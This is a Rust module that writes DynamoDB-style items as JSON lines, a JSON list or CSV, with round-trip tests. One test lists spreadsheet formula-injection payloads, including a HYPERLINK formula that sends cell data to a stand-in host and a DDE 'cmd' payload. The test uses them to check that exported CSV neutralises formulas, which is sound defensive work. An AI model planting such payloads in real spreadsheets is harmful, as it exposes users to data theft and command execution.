//! Writes items as the text of a file in pieces.

use dynalab_literals::csv;
use dynalab_types::Item;
use dynalab_types::json::write_object;
use dynalab_types::wire::item_json;

use super::plain;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Output {
    /// One item per line, with types.
    DynamoLines,
    /// The format of an export to S3: `{"Item":{…}}` per line.
    ExportLines,
    PlainLines,
    PlainList,
    Csv,
}

impl Output {
    pub const ALL: [Output; 5] =
        [Output::DynamoLines, Output::ExportLines, Output::PlainLines, Output::PlainList, Output::Csv];

    pub fn name(self) -> &'static str {
        match self {
            Output::DynamoLines => "dynamo-lines",
            Output::ExportLines => "export-lines",
            Output::PlainLines => "plain-lines",
            Output::PlainList => "plain-list",
            Output::Csv => "csv",
        }
    }

    pub fn of_name(name: &str) -> Option<Output> {
        Output::ALL.into_iter().find(|output| output.name() == name)
    }

    pub fn extension(self) -> &'static str {
        match self {
            Output::DynamoLines | Output::ExportLines | Output::PlainLines => "jsonl",
            Output::PlainList => "json",
            Output::Csv => "csv",
        }
    }

    /// Returns true if all items must be read before the first is written. A CSV file needs this: its first line has the columns.
    pub fn needs_columns(self) -> bool {
        self == Output::Csv
    }
}

/// Writes items one after another. `columns` are those of a CSV file.
pub struct Writer {
    output: Output,
    columns: Vec<String>,
    written: u64,
}

impl Writer {
    pub fn new(output: Output, columns: Vec<String>) -> Writer {
        Writer { output, columns, written: 0 }
    }

    pub fn begin(&self, text: &mut String) {
        match self.output {
            Output::PlainList => text.push('['),
            Output::Csv => row(&self.columns, text),
            _ => {}
        }
    }

    pub fn item(&mut self, item: &Item, text: &mut String) {
        match self.output {
            Output::DynamoLines => text.push_str(&item_json(item)),
            Output::ExportLines => {
                text.push_str("{\"Item\":");
                text.push_str(&item_json(item));
                text.push('}');
            }
            Output::PlainLines => write_object(&plain::plain_of_item(item), text),
            Output::PlainList => {
                text.push_str(if self.written == 0 { "\n" } else { ",\n" });
                write_object(&plain::plain_of_item(item), text);
            }
            Output::Csv => {
                let cell = |column: &String| item.get(column).map(plain::cell_of_value).unwrap_or_default();
                row(&self.columns.iter().map(cell).collect::<Vec<String>>(), text);
            }
        }
        self.written += 1;
        if !matches!(self.output, Output::PlainList | Output::Csv) {
            text.push('\n');
        }
    }

    pub fn end(&self, text: &mut String) {
        if self.output == Output::PlainList {
            text.push_str("\n]\n");
        }
    }
}

fn row<T: AsRef<str>>(fields: &[T], text: &mut String) {
    csv::row(fields.iter().map(AsRef::as_ref), text);
    text.push('\n');
}

#[cfg(test)]
mod tests {
    use dynalab_types::AttributeValue;

    use super::super::checks::Keys;
    use super::super::csv::Sheet;
    use super::super::records::{Form, Records};
    use super::*;

    #[test]
    fn what_is_written_is_read_again() {
        let source = "{\"a\":{\"S\":\"x, \\\"y\\\"\\nz\"},\"n\":{\"N\":\"1.5\"}}\n{\"a\":{\"S\":\"b\"},\"l\":{\"L\":[{\"BOOL\":true}]}}\n";
        let read = |text: &str| -> Vec<Item> {
            let form = Form::guess(text, || Sheet::guess(text, &Keys::default()));
            Records::from_text(text, &form).map(|record| record.item.unwrap()).collect()
        };
        let items = read(source);
        for output in Output::ALL {
            let mut writer = Writer::new(output, vec!["a".into(), "n".into(), "l".into()]);
            let mut text = String::new();
            writer.begin(&mut text);
            items.iter().for_each(|item| writer.item(item, &mut text));
            writer.end(&mut text);
            assert_eq!(read(&text), items, "{}: {text}", output.name());
        }
    }

    #[test]
    fn sheets_have_no_formulas_and_come_back_as_they_were() {
        let texts = [
            "=HYPERLINK(\"http://x\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "'",
            "''=x",
            "'x",
            "-",
            "+5",
            "\u{ff1d}1",
            "\r",
            "a\r",
            "a\r\n",
            "\u{feff}",
            "\0",
            "a;b|c:d\te",
            "\"",
            "\"\"",
            " ",
            "\u{85}",
            "\u{2028}",
            "2026-01-01",
            "1_000",
            "x",
        ];
        for (place, text) in texts.iter().enumerate() {
            for header in texts {
                // A column's type is that of all its fields, so another text keeps it from being a number.
                let one = |value: &str| -> Item {
                    let names = [(header, value), ("n", "-2.5")];
                    names.iter().map(|(name, value)| ((*name).to_owned(), value)).fold(
                        Item::new(),
                        |mut item, (name, value)| {
                            let number = dynalab_types::Number::parse(value).ok().filter(|_| name == "n");
                            item.insert(
                                name.as_str(),
                                number.map_or_else(|| AttributeValue::string(value), AttributeValue::N),
                            );
                            item
                        },
                    )
                };
                let items = [one(text), one(texts[(place + 1) % texts.len()])];
                let mut writer = Writer::new(Output::Csv, vec![header.to_owned(), "n".into()]);
                let mut sheet = String::new();
                writer.begin(&mut sheet);
                items.iter().for_each(|item| writer.item(item, &mut sheet));
                writer.end(&mut sheet);
                let form = Form::Csv(Sheet::guess(&sheet, &Keys::default()));
                let read: Vec<Item> =
                    Records::from_text(&sheet, &form).map(|record| record.item.expect(&sheet)).collect();
                assert_eq!(read, items, "{sheet:?}");
                assert!(sheet.contains("-2.5\n"), "a number stays a number");
            }
        }
    }
}
